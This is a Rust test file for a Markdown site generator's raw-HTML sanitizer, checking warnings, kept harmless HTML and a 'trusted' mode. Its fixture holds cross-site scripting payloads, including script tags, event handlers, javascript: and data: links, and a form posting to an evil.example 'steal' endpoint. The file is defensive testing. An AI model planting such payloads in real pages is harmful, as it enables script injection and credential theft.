//! Raw HTML in Markdown pages: sanitized by default, each removal a warning at its line in the
//! page; harmless HTML and what dacibook's own Markdown emits kept; `raw-html = "trusted"`
//! keeps everything as written; Markdown from records keeps escaping raw HTML.

mod common;

use common::site::*;
use common::{assert_diag, dump, with_code, Book, Expect};
use dacibook::diagnostic::Severity;
use scraper::Html;

const HINT: &str = "pages keep only HTML that cannot run code; to keep it as written, set \
`raw-html = \"trusted\"` under `[output.html]` in book.toml (for books whose every page is reviewed)";

/// A page with one hostile piece of raw HTML per line from line 5 on, each marked by a text
/// (`mark-N`) that must survive when only the dangerous part is taken out.
const HOSTILE_MD: &str = "\
# Hostile

Some text.

<script>alert('script')</script>
<p>mark-6 <img src=\"https://example.org/i.png\" alt=\"i\" onerror=\"alert('onerror')\"></p>
<iframe src=\"https://evil.example/\"></iframe>
<form action=\"https://evil.example/steal\"><span>mark-8</span><input type=\"text\" name=\"pw\"></form>
<p style=\"background: url(https://evil.example/)\">mark-9</p>
<p><a href=\"javascript:alert('js')\">mark-10</a></p>
<p><a href=\"data:text/html,<script>alert(1)</script>\">mark-11</a></p>
<p><a href=\"vbscript:msgbox(1)\">mark-12</a></p>
<p><img src=\"javascript:alert('src')\" alt=\"mark-13\"></p>
<p><img src=\"data:image/svg+xml,<svg onload=alert(1)>\" alt=\"mark-14\"></p>

Inline: a <span onmouseover=\"alert('inline')\">mark-16</span> word.
";

/// Per line of HOSTILE_MD: what the warning names.
const REMOVED: &[(usize, &str)] = &[
    (5, "the `<script>` element and its content"),
    (6, "the `onerror` attribute of `<img>`"),
    (7, "the `<iframe>` tag (its content stays)"),
    (8, "the `<form>` tag (its content stays)"),
    (8, "the `name` attribute of `<input>`"),
    (8, "the `type=\"text\"` attribute of `<input>`"),
    (9, "the `style` attribute of `<p>`"),
    (10, "the `javascript:` link in the `href` of `<a>`"),
    (11, "the `data:` link in the `href` of `<a>`"),
    (12, "the `vbscript:` link in the `href` of `<a>`"),
    (13, "the `javascript:` link in the `src` of `<img>`"),
    (14, "the `data:` link in the `src` of `<img>`"),
    (16, "the `onmouseover` attribute of `<span>`"),
];

fn hostile_book() -> Book {
    let book = Book::valid();
    book.write("content/hostile.md", HOSTILE_MD);
    book
}

fn set_raw_html(book: &Book, mode: &str) {
    book.write(
        "book.toml",
        &format!("{}\n[output.html]\nraw-html = \"{mode}\"\n", common::BOOK_TOML),
    );
}

/// The `<main>` of a built page, parsed.
fn main_of(site: &dacibook::site::Site, path: &str) -> Html {
    let doc = page(site, path);
    Html::parse_fragment(&select_one(&doc, "main").html())
}

#[test]
fn each_removal_is_a_warning_at_its_line_naming_what_and_how_to_keep_it() {
    let book = hostile_book();
    let diags = book.check();
    let found = with_code(&diags, "raw-html-removed");
    assert_eq!(found.len(), REMOVED.len(), "{}", dump(&diags));
    for (d, (line, what)) in found.iter().zip(REMOVED) {
        assert_diag(
            d,
            Expect {
                code: "raw-html-removed",
                severity: Severity::Warning,
                message: &format!("raw HTML: {what} is removed from the page"),
                file: "content/hostile.md",
                line: *line,
                column: d.location.as_ref().map_or(0, |l| l.column),
                hint: Some(HINT),
            },
        );
        assert_eq!(d.message, format!("raw HTML: {what} is removed from the page"));
    }
    // The column is the element's: the `<img>` on line 6 starts after `<p>mark-6 `.
    assert_eq!(found[1].location.as_ref().map(|l| l.column), Some(11));
    assert_eq!(found[12].location.as_ref().map(|l| l.column), Some(11));
    // Warnings do not stop the build.
    assert!(
        diags.iter().all(|d| d.severity == Severity::Warning),
        "{}",
        dump(&diags)
    );
}

#[test]
fn what_could_run_code_is_gone_from_the_built_page_and_its_text_stays() {
    let book = hostile_book();
    let site = build_site(book.root());
    let main = main_of(&site, "hostile.html");
    for tag in ["script", "iframe", "form", "style", "object", "embed"] {
        assert!(
            main.select(&sel(tag)).next().is_none(),
            "a <{tag}> is left: {}",
            main.html()
        );
    }
    for el in main.select(&sel("*")) {
        for (name, value) in el.value().attrs() {
            assert!(
                !name.starts_with("on"),
                "{name}={value:?} is left on <{}>",
                el.value().name()
            );
            assert_ne!(name, "style", "a style attribute is left on <{}>", el.value().name());
            if matches!(name, "href" | "src") {
                let s = scheme(value);
                assert!(
                    s.is_none() || matches!(s.as_deref(), Some("http" | "https" | "mailto")),
                    "{name}={value:?} is left on <{}>",
                    el.value().name()
                );
            }
        }
    }
    let all_text: String = main.root_element().text().collect();
    assert!(!all_text.contains("alert"), "{all_text}");
    for n in [6, 8, 9, 10, 11, 12, 16] {
        assert!(all_text.contains(&format!("mark-{n}")), "mark-{n} lost: {all_text}");
    }
    // The image keeps its safe source and alt text; the refused sources leave an image without one.
    let imgs = select(&main, "img");
    assert_eq!(attr(imgs[0], "src"), "https://example.org/i.png");
    assert_eq!(imgs[1].value().attr("src"), None);
    assert_eq!(attr(imgs[1], "alt"), "mark-13");
    // The form's field stays, as a plain box that sends nowhere.
    assert_eq!(select(&main, "input").len(), 1);
}

#[test]
fn harmless_html_and_dacibook_s_own_markdown_are_kept_in_a_page_with_raw_html() {
    let book = Book::valid();
    book.write(
        "content/kept.md",
        "# Kept\n\n\
<details open>\n<summary>More</summary>\n\nPress <kbd>Ctrl</kbd> H<sub>2</sub>O E=mc<sup>2</sup>\n\n</details>\n\n\
<table class=\"t\"><tr><th>a</th></tr><tr><td>b</td></tr></table>\n\n\
<img src=\"pic.png\" alt=\"relative\"> <img src=\"https://example.org/p.png\" alt=\"web\">\n\n\
## Notes {#my-notes}\n\n\
| L | C | R |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\n\
- [x] done item\n\n\
A note[^n].\n\n[^n]: The footnote.\n\n\
```sql\nselect 1\n```\n\n\
[to kept](kept.md#my-notes) <!-- a comment stays -->\n",
    );
    book.write_bytes("content/pic.png", b"\x89PNG\r\n\x1a\n");
    let diags = book.check();
    assert!(with_code(&diags, "raw-html-removed").is_empty(), "{}", dump(&diags));
    let site = build_site(book.root());
    let raw = file_text(&site, "kept.html");
    let main = main_of(&site, "kept.html");
    assert_eq!(text(select_one(&main, "details summary")), "More");
    assert!(select_one(&main, "details").value().attr("open").is_some());
    assert_eq!(text(select_one(&main, "kbd")), "Ctrl");
    assert_eq!(text(select_one(&main, "details sub")), "2");
    assert_eq!(text(select_one(&main, "details sup")), "2");
    assert_eq!(text(select_one(&main, "table.t td")), "b");
    let srcs: Vec<&str> = select(&main, "img").iter().map(|i| attr(*i, "src")).collect();
    assert_eq!(srcs, ["pic.png", "https://example.org/p.png"]);
    // Heading ids and anchors, table alignment, task boxes, footnotes, highlighting, comments.
    assert_eq!(attr(select_one(&main, "h2#my-notes a.anchor"), "href"), "#my-notes");
    let aligns: Vec<&str> = select(&main, "th").iter().skip(1).map(|c| attr(*c, "style")).collect();
    assert_eq!(aligns, ["text-align: left", "text-align: center", "text-align: right"]);
    let checkbox = select_one(&main, "input[type=checkbox]");
    assert!(checkbox.value().attr("checked").is_some() && checkbox.value().attr("disabled").is_some());
    assert_eq!(attr(checkbox, "aria-label"), "done item");
    assert_eq!(select(&main, "sup.footnote-reference a").len(), 1);
    assert_eq!(select(&main, "div.footnote-definition").len(), 1);
    assert!(
        !select(&main, "pre.hl-code code.language-sql span[class]").is_empty(),
        "{raw}"
    );
    assert_eq!(attr(select_one(&main, "a[href^=kept]"), "href"), "kept.html#my-notes");
    assert!(raw.contains("<!-- a comment stays -->"), "{raw}");
}

#[test]
fn trusted_pages_keep_raw_html_as_written_without_warnings() {
    let book = hostile_book();
    set_raw_html(&book, "trusted");
    let diags = book.check();
    assert!(with_code(&diags, "raw-html-removed").is_empty(), "{}", dump(&diags));
    let site = build_site(book.root());
    let raw = file_text(&site, "hostile.html");
    for piece in [
        "<script>alert('script')</script>",
        "onerror=\"alert('onerror')\"",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<form action=\"https://evil.example/steal\">",
        "style=\"background: url(https://evil.example/)\"",
        "href=\"javascript:alert('js')\"",
        "src=\"data:image/svg+xml,<svg onload=alert(1)>\"",
        "<span onmouseover=\"alert('inline')\">",
    ] {
        assert!(raw.contains(piece), "{piece} was not kept:\n{raw}");
    }
}

#[test]
fn an_unknown_raw_html_mode_is_refused_naming_the_allowed_values() {
    let book = Book::valid();
    set_raw_html(&book, "unsafe");
    let diags = book.check();
    assert_diag(
        common::only(&diags),
        Expect {
            code: "unknown-value",
            severity: Severity::Error,
            message: "book.toml: unknown variant `unsafe`, expected `sanitized` or `trusted`",
            file: "book.toml",
            line: 6,
            column: 12,
            hint: Some("write one of `sanitized`, `trusted`"),
        },
    );
}

#[test]
fn raw_html_in_records_stays_escaped_text_whatever_the_mode() {
    for mode in ["sanitized", "trusted"] {
        let book = Book::valid();
        set_raw_html(&book, mode);
        book.patch(
            "content/projects/reading-depth.yaml",
            "summary: Measures how far readers scroll.",
            "summary: \"Hi <b onclick=x()>bold</b>\"",
        );
        let site = build_site(book.root());
        let main = main_of(&site, "projects/reading-depth.html");
        assert!(select(&main, "b").is_empty(), "{mode}: {}", main.html());
        let shown: String = main.root_element().text().collect();
        assert!(shown.contains("Hi <b onclick=x()>bold</b>"), "{mode}: {shown}");
    }
}

#[test]
fn a_broken_link_in_raw_html_is_reported_at_its_line_in_the_page() {
    let book = Book::valid();
    book.write(
        "content/guide.md",
        "# Guide\n\n<p>See <a href=\"about.html\">about</a>.</p>\n\nThen <a href=\"misssing.html\">this</a>.\n",
    );
    let built = build(book.root());
    assert!(built.site.is_none(), "the site built despite a broken link");
    assert_diag(
        common::only(built.diagnostics()),
        Expect {
            code: "broken-link",
            severity: Severity::Error,
            message: "broken link: `misssing.html` points to misssing.html, which the site does not have",
            file: "content/guide.md",
            line: 5,
            column: 6,
            hint: Some("fix the path (links are relative to the page), or the heading it points to"),
        },
    );
}

#[test]
fn a_tag_spread_over_lines_or_indented_in_a_list_is_reported_where_it_starts() {
    let book = Book::valid();
    book.write(
        "content/guide.md",
        "# Guide\n\n<div class=\"box\">\n<img src=\"x.png\"\n  onerror=\"alert(1)\">\n</div>\n\n- item\n\n  <p>a</p>\n  <p onclick=\"x()\">in a list</p>\n",
    );
    book.write_bytes("content/x.png", b"\x89PNG\r\n\x1a\n");
    let diags = book.check();
    let seen: Vec<(String, usize, usize)> = with_code(&diags, "raw-html-removed")
        .iter()
        .map(|d| {
            let l = d.location.as_ref().expect("located");
            (d.message.clone(), l.line, l.column)
        })
        .collect();
    assert_eq!(
        seen,
        [
            (
                "raw HTML: the `onerror` attribute of `<img>` is removed from the page".to_string(),
                4,
                1
            ),
            (
                "raw HTML: the `onclick` attribute of `<p>` is removed from the page".to_string(),
                11,
                3
            ),
        ],
        "{}",
        dump(&diags)
    );
    let site = build_site(book.root());
    let main = main_of(&site, "guide.html");
    assert_eq!(attr(select_one(&main, "div.box img"), "src"), "x.png");
    assert!(select(&main, "[onerror], [onclick]").is_empty(), "{}", main.html());
}
